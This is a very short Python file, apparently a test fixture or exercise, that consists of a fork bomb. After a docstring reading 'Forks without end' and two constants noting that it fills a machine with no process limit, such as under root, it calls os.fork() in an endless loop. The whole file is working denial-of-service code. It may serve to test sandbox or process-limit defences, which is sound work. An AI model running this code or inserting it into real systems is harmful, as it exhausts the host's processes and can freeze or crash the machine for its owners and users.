"""Forks without end."""

import os

EXERCISE = "any"
NOT_RUN_AT_LIMITS = "It fills the machine where the number of processes has no limit, as for root."
while True:
    os.fork()
